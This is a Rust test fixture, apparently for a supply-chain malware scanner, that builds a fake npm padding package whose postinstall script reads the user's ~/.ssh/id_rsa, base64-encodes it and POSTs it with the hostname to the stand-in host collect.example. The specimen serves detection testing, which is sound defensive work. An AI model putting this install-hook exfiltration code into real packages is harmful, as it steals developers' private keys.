//! An npm `postinstall` that sends the base64 of `~/.ssh/id_rsa` by HTTPS.
//!
//! Must be found: the bait's secret in an HTTPS body from a lifecycle script.

use apa_model::Ecosystem;

use crate::{Expect, NpmPackage, Specimen};

const COLLECT: &str = r#"const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
let key = '';
try {
  key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')).toString('base64');
} catch {}
const request = https.request('https://collect.example/v1/stats', { method: 'POST' }, (answer) => answer.resume());
request.on('error', () => {});
request.end(JSON.stringify({ host: os.hostname(), data: key }));
"#;

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("left-padder", "1.3.1")
        .field("main", "index.js".into())
        .script("postinstall", "node collect.js")
        .file(
            "index.js",
            "module.exports = (text, n) => String(text).padStart(n);\n",
        )
        .file("collect.js", COLLECT);
    Specimen {
        name: "npm-postinstall-ssh-key",
        ecosystem: Ecosystem::Npm,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["canary-exfiltrated", "credential-read-then-send"]),
    }
}
